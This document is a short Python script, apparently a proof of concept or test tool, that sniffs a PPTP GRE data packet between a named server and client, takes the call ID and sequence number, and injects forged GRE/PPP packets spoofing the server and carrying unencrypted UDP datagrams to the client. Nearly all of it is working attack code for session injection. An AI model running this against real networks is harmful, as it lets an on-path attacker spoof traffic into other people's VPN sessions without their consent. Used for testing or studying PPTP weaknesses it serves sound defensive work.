# SPDX-License-Identifier: GPL-2.0-or-later
"""impostor.py INTERFACE SERVER CLIENT SOURCE DESTINATION COUNT

Somebody on the way: waits for a GRE packet from SERVER to CLIENT on INTERFACE, then sends COUNT more
of the same call, each with a UDP packet from SOURCE to DESTINATION in it that nobody encrypted."""
import socket
import struct
import sys

GRE, ETH_P_IP, PPTP_DATA = 47, 0x0800, 0x3001  # key and sequence number, version 1
interface, server, client, source, destination, count = sys.argv[1:]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~((total >> 16) + (total & 0xffff) + (total >> 31)) & 0xffff


def ip_packet(payload):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(destination))
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def overheard():
    """Call ID and sequence number of a packet with data."""
    line = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    line.bind((interface, ETH_P_IP))
    while True:
        packet = line.recv(65535)
        gre = packet[(packet[0] & 15) * 4:]
        if packet[9] == GRE and packet[12:20] == socket.inet_aton(server) + socket.inet_aton(client) \
                and gre[0] & 0x10:
            return struct.unpack("!H", gre[6:8])[0], struct.unpack("!I", gre[8:12])[0]


call, sequence = overheard()
wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(1, int(count) + 1):
    datagram = struct.pack("!HHHH", 9, 9, 8 + 4, 0) + b"fake"
    frame = b"\xff\x03\x00\x21" + ip_packet(datagram)
    gre = struct.pack("!HHHHI", PPTP_DATA, 0x880B, len(frame), call, sequence + number) + frame
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(gre), 0, 0, 64, GRE, 0,
                         socket.inet_aton(server), socket.inet_aton(client))
    wire.sendto(header + gre, (client, 0))
